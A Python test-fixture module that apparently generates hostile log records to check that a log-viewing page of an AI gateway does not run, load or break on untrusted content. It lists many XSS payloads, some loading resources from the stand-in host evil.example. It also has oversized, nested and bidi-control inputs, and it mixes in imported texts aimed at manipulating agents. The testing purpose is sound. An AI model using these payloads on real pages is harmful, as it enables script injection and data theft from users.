"""Hostile texts meant to make a page that shows logs run, load, follow or break something."""

import json
from collections.abc import Iterator
from typing import Any

from agents import Agent
from injection import ATTEMPTS, Hostile
from logs import a_log

from cf_aig_gateway.local.record import Record

RUN = "globalThis.canary=1"
"""A page under test reports when anything sets this."""
AWAY = "http://evil.example"

MARKUP = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</textarea></title></style></template><script>{RUN}</script>",
    f'<script src="{AWAY}/x.js"></script>',
    f"<img src=x onerror={RUN}>",
    f"<img src={AWAY}/pixel.png>",
    f'"><img src=x onerror="{RUN}">',
    f"' onmouseover='{RUN}' x='",
    f'" autofocus onfocus="{RUN}" tabindex="0',
    f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><style>@import '{AWAY}/x.css'</style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<iframe src={AWAY}></iframe><object data={AWAY}></object><embed src={AWAY}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<body onload={RUN} onhashchange={RUN} style=display:none>",
    f"<video src={AWAY}/v.mp4 autoplay><source onerror={RUN}></video>",
    f"<a href='javascript:{RUN}'>press me</a>",
    f"<a href='{AWAY}' target=_top ping={AWAY}>press me</a>",
    f"<form action={AWAY}><input name=a><button>press me</button></form>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'><base href={AWAY}>",
    f"<link rel=stylesheet href={AWAY}/x.css><link rel=prefetch href={AWAY}>",
    "<style>*{display:none!important}</style>",
    "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>covered</div>",
    f"background:url({AWAY}/x.png);position:fixed;inset:0",
    f"javascript:{RUN}",
    f"JaVa\tScRiPt:{RUN}//",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f"{AWAY}/?q=1",
    f"[press me](javascript:{RUN})",
    f"![x]({AWAY}/pixel.png)",
    f"<{AWAY}>",
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "<% canary %> <?php canary ?> <!--#include canary-->",
    "<!-- x --!> <![CDATA[ x ]]>",
    "&lt;script&gt; &amp;amp; &#60;b&#62; %3Cscript%3E",
    "\\u003cscript\\u003e \\x3cscript\\x3e",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324" * 20,
    "\ufdfd\u12031\u0bf5" * 30,
    "العربية עברית " * 12,
    "W" * 4000,
    "a-b_c.d/" * 500,
    "\u202eevil\u202c \u2067right\u2069 \u200b\u200d\ufeff",
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16") * 300,
    "line\n" * 300,
    "\t" * 500 + "tabs",
)
LINE = f"{'x' * 1000}<img src=x onerror={RUN}>" * 2000
"""About 2 MB without a break."""


def deep(levels: int) -> Any:
    """Return nested lists and objects."""
    value: Any = f"<img src=x onerror={RUN}>"
    for level in range(levels):
        value = [value] if level % 2 else {"a": value}
    return value


class Corpus(Hostile):
    """Returns, alternately, markup and texts that address an agent."""

    def __init__(self, **kind: bool) -> None:
        super().__init__(**kind)
        texts = [text for pair in zip(MARKUP * 6, ATTEMPTS, strict=False) for text in pair]
        self._attempts = iter(texts * 100)

    def logs(self, count: int) -> Iterator[Record]:
        """Yield logs with such a text in every place that text comes from. Every second one failed."""
        for number in range(count):
            failed = number % 2 == 1
            yield a_log(
                0xA000 + number,
                minutes=number / 60,
                **{name: self.say() for name in ("provider", "model", "path", "event_id", "user_agent", "session")},
                metadata={self.say(): self.say(), "user": self.say(), "userId": self.say()},
                success=not failed,
                status_code=400 if failed else 200,
                request=json.dumps(self.request()).encode(),
                response=json.dumps(self.error() if failed else self.reply()).encode(),
            )

    def run(self) -> list[Record]:
        """Return an agent's calls of tools with such names, arguments and results. It loops, and one call fails."""
        agent = Agent(system=self.say(), at=5).ask(self.say())
        name, arguments = self.say(), {self.say(): self.say()}
        for step in range(8):
            tool = (name, arguments) if step < 4 else (self.say(), {self.say(): self.say()})
            agent.call(self.say(), tool, results=(self.say(),), model=self.say(), provider=self.say())
        agent.call(success=False, status_code=529, response=json.dumps(self.error()).encode())
        agent.call(self.say())
        return agent.records


def markup() -> Record:
    """Return a log of one chat with one of the texts in each turn, tool call and result."""
    messages: list[dict[str, Any]] = [{"role": "system", "content": MARKUP[0]}]
    for number, text in enumerate(MARKUP):
        call = {"id": f"call_{number}", "type": "function", "function": {"name": text[:60], "arguments": text}}
        messages += [
            {"role": "user", "content": text},
            {"role": "assistant", "content": text, "tool_calls": [call]},
            {"role": "tool", "tool_call_id": f"call_{number}", "content": text},
        ]
    return a_log(0xB000, minutes=6, request=json.dumps({"model": MARKUP[0], "messages": messages}).encode())


def line() -> Record:
    """Return a log whose texts are 2 MB each, without a break."""
    call = {
        "id": "call_1",
        "type": "function",
        "function": {"name": "x" * 20_000, "arguments": json.dumps({"a": LINE})},
    }
    messages = [
        {"role": "user", "content": LINE},
        {"role": "assistant", "content": "", "tool_calls": [call]},
        {"role": "tool", "tool_call_id": "call_1", "content": LINE},
    ]
    reply = {"choices": [{"message": {"role": "assistant", "content": LINE}, "finish_reason": "stop"}]}
    return a_log(
        0xB001,
        minutes=6.1,
        request=json.dumps({"model": "gpt-4o", "messages": messages}).encode(),
        response=json.dumps(reply).encode(),
    )


def nested() -> Record:
    """Return a log whose request and reply contain lists and objects nested 400 deep."""
    messages = [{"role": "user", "content": "How deep?"}]
    request = {"model": "gpt-4o", "messages": messages, "metadata": deep(400), "response_format": deep(400)}
    reply = {"choices": [{"message": {"role": "assistant", "content": json.dumps(deep(400))}}], "more": deep(400)}
    return a_log(0xB002, minutes=6.2, request=json.dumps(request).encode(), response=json.dumps(reply).encode())
